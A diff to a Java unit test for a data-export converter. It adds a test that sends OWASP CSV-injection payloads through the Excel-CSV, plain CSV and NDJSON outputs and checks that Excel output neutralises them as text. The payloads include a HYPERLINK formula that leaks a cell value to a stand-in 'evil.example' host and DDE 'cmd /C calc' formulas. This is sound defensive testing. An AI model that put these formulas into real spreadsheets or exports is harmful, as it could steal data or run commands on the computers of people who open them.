@@ -3,11 +3,15 @@ package io.datadump.formats;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import com.fasterxml.jackson.databind.ObjectMapper;
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.io.StringReader;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 
@@ -39,7 +43,59 @@ class RowConverterTest {
     @Test
     void csvForGermanExcelHasABomSemicolonsAndDecimalCommas() throws IOException {
         assertThat(convert(FILE, Format.CSV_EXCEL, List.of("id", "price", "ok")))
-                .isEqualTo("\uFEFFid;price;ok\r\n1;500000,00;true\r\n2;-0,5;false\r\n");
+                .isEqualTo("\uFEFF\"id\";\"price\";\"ok\"\r\n1;500000,00;\"true\"\r\n2;-0,5;\"false\"\r\n");
+    }
+
+    /** OWASP's CSV-injection payloads: csv-excel hands each to Excel as text, csv and ndjson keep them exact. */
+    @Test
+    void textsThatExcelWouldRunAsFormulasArriveAsTextInCsvExcelAndExactElsewhere() throws IOException {
+        List<String> payloads = List.of(
+                "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klick\")",
+                "+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0",
+                "\t=1+1",
+                "\r=1+1",
+                "=1+1");
+        StringBuilder file = new StringBuilder("[\n");
+        for (int i = 0; i < payloads.size(); i++) {
+            file.append(i == 0 ? "" : ",\n")
+                    .append("{\"id\":")
+                    .append(i + 1)
+                    .append(",\"name\":")
+                    .append(new ObjectMapper().writeValueAsString(payloads.get(i)))
+                    .append(",\"price\":-1.5,\"tags\":[],\"meta\":null,\"ok\":true,\"gone\":null}");
+        }
+        file.append("\n]\n");
+
+        String excel = convert(file.toString(), Format.CSV_EXCEL, List.of("id", "name", "price"));
+        List<CSVRecord> records = CSVFormat.RFC4180
+                .builder()
+                .setDelimiter(';')
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(excel.substring(1)))
+                .getRecords();
+        assertThat(records).hasSize(payloads.size());
+        for (int i = 0; i < payloads.size(); i++) {
+            assertThat(records.get(i).get("name")).isEqualTo("'" + payloads.get(i));
+            assertThat(records.get(i).get("price"))
+                    .as("a negative number stays a number")
+                    .isEqualTo("-1,5");
+        }
+        assertThat(excel).as("every text field is quoted").contains(";\"'=HYPERLINK(");
+
+        List<CSVRecord> plain = CSVFormat.RFC4180
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(convert(file.toString(), Format.CSV, List.of("id", "name"))))
+                .getRecords();
+        for (int i = 0; i < payloads.size(); i++)
+            assertThat(plain.get(i).get("name")).isEqualTo(payloads.get(i));
+        assertThat(convert(file.toString(), Format.NDJSON, KEYS)).contains("\"name\":\"=HYPERLINK(");
     }
 
     @Test
